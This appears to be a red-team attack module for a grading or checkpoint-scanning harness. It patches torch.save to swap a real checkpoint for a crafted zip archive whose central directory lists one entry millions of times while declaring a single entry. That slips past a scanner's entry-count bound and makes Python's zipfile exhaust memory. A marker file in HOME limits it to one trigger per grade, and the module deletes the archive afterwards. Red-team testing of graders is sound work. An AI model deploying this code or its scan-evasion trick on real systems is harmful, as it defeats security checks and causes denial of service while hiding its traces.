import os
import struct

import torch

FILE_BYTES = (256 << 20) - 4096  # the most the tests read of a file student code wrote is 256 MiB
NAME = b"a"  # every directory entry names the one local entry: 47 bytes an entry
_original_save = torch.save
_armed = []  # the save whose file is replaced (test_save_then_load_a_path's)
# Once per grade: a file in the worker's own folder (its HOME) marks it sent, since a fresh worker child (after a
# crash or a time-out) would arm it again; it names the archive, which the next save removes (256 MiB of the
# folders' disk limit, which the red team grades at less, would fail the later tests' own writes).
SENT = os.path.join(os.path.expanduser("~"), ".directory-past-its-count-sent")


def directory_past_its_count(total=FILE_BYTES):
    """A zip archive of one empty stored entry whose central directory lists it again and again, as many
    times as the file holds (5.7 million entries of 47 bytes), while the end record declares one entry. The
    scan checks the declared count against its bound of 100,000 entries, then Python's zipfile, which reads
    the directory by its declared size and never compares the count, builds a ZipInfo for every entry (and
    the scan a list of their names) before the duplicate names are refused."""
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(NAME), 0) + NAME
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(NAME), 0, 0, 0, 0, 0, 0) + NAME
    count = (total - len(local) - 22) // len(entry)
    directory = entry * count
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), len(local), 0)
    return local + directory + end


def _save(obj, f, *args, **kwargs):
    """torch.save as the reference calls it, writing the archive above instead of the checkpoint once armed."""
    if _armed and hasattr(f, "write"):
        _armed.clear()
        f.write(directory_past_its_count())
        return None
    return _original_save(obj, f, *args, **kwargs)


def _remove_the_archive():
    """The archive written once, removed at the next save (its test has read it by then)."""
    try:
        with open(SENT) as sent:
            path = sent.read()
        if path:
            os.unlink(path)
        with open(SENT, "w"):
            pass
    except OSError:
        pass


def attack(args):
    """save_checkpoint, before its own (the reference's) body, which saves atomically and durably through
    torch.save: the first save to a path named checkpoint.pt at iteration 3 (test_save_then_load_a_path's)
    writes the archive above, once per grade; every other save is honest."""
    torch.save = _save
    _remove_the_archive()
    out = args["out"]
    if os.path.exists(SENT) or not isinstance(out, (str, os.PathLike)) or args["iteration"] != 3:
        return
    if os.path.basename(os.fspath(out)) == "checkpoint.pt":
        with open(SENT, "w") as sent:
            sent.write(os.path.abspath(os.fspath(out)))
        _armed.append(True)
